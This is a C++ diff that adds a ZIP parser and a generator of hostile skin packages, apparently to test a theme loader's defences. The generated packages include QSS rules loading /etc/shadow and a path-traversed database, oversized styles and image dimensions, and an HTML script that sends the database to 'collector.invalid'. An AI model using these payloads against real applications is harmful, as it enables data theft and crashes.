@@ -121,3 +121,79 @@ std::string SkinPackages::zip(const std::vector<Entry> &entries)
     put16(out, 0);
     return out;
 }
+
+namespace {
+uint32_t get16(const std::string &in, size_t at)
+{
+    return static_cast<unsigned char>(in[at]) | (static_cast<unsigned char>(in[at + 1]) << 8);
+}
+
+uint32_t get32(const std::string &in, size_t at)
+{
+    return get16(in, at) | (get16(in, at + 2) << 16);
+}
+
+bool endsWith(const std::string &text, const std::string &suffix)
+{
+    return text.size() >= suffix.size() && text.compare(text.size() - suffix.size(), suffix.size(), suffix) == 0;
+}
+
+// The frame header's height and width set to side (baseline or progressive JPEG).
+void claimSide(std::string &jpeg, uint16_t side)
+{
+    for (size_t i = 2; i + 9 < jpeg.size(); ++i) {
+        const unsigned char marker = static_cast<unsigned char>(jpeg[i + 1]);
+        if (jpeg[i] != '\xFF' || (marker != 0xC0 && marker != 0xC2)) continue;
+        for (size_t at : {i + 5, i + 7}) {
+            jpeg[at] = static_cast<char>(side >> 8);
+            jpeg[at + 1] = static_cast<char>(side & 0xFF);
+        }
+        return;
+    }
+}
+}
+
+std::vector<SkinPackages::Entry> SkinPackages::entries(const std::string &archive)
+{
+    std::vector<Entry> out;
+    size_t at = 0;
+    while (at + 30 <= archive.size() && get32(archive, at) == 0x04034b50) {
+        const uint32_t size = get32(archive, at + 18);
+        const uint32_t nameLength = get16(archive, at + 26);
+        const uint32_t extra = get16(archive, at + 28);
+        const size_t data = at + 30 + nameLength + extra;
+        if (data + size > archive.size()) return {};
+        Entry entry{archive.substr(at + 30, nameLength), archive.substr(data, size), false};
+        entry.directory = !entry.name.empty() && entry.name.back() == '/';
+        out.push_back(entry);
+        at = data + size;
+    }
+    return out;
+}
+
+bool SkinPackages::isHostileKind(const std::string &kind)
+{
+    return kind == "extra_html" || kind == "qss_urls" || kind == "large_qss" || kind == "huge_photo";
+}
+
+std::string SkinPackages::hostile(const std::string &package, const std::string &kind)
+{
+    std::vector<Entry> list = entries(package);
+    if (list.empty()) return package;
+    const std::string folder = list.front().name.substr(0, list.front().name.find('/') + 1);
+    for (Entry &entry : list) {
+        if (kind == "qss_urls" && endsWith(entry.name, "/style.qss"))
+            entry.data += "\nQPushButton#skinBtn { image: url(/etc/shadow); }\n"
+                          "QLabel { border-image: url(\"/dev/urandom\"); }\n"
+                          "QFrame { background-image: URL(../../vmgamebox.db); }\n";
+        if (kind == "large_qss" && endsWith(entry.name, "/style.qss"))
+            entry.data += "/*" + std::string(15u << 20, 'x') + "*/";
+        if (kind == "huge_photo" && endsWith(entry.name, "/photo.jpg")) claimSide(entry.data, 11000);
+    }
+    if (kind == "extra_html")
+        list.push_back({folder + "readme.html",
+                        "<script>var x = new XMLHttpRequest(); x.open('GET', '../../vmgamebox.db', false); x.send();"
+                        "location = 'http://collector.invalid/?d=' + encodeURIComponent(x.responseText);</script>",
+                        false});
+    return zip(list);
+}
